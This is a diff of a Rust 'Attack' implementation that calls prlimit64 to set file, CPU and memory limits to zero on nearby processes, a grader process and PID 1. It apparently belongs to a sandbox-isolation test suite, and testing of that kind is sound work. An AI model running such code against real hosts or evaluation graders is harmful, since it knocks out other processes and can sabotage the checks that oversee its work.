@@ -7,9 +7,11 @@ impl Attack for Raft {
         unsafe {
             let own = libc::getpid();
             let limit = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
-            for process in (own - 20..own).chain([@GRADER@, 1]) {
+            for process in (own - 20..own).chain([grader(), 1]) {
                 for resource in [libc::RLIMIT_NOFILE, libc::RLIMIT_CPU, libc::RLIMIT_AS] {
-                    if libc::syscall(libc::SYS_prlimit64, process, resource, &raw const limit, 0) == 0 {
+                    if libc::syscall(libc::SYS_prlimit64, process, resource, &raw const limit, 0)
+                        == 0
+                    {
                         gained("a limit");
                     }
                 }
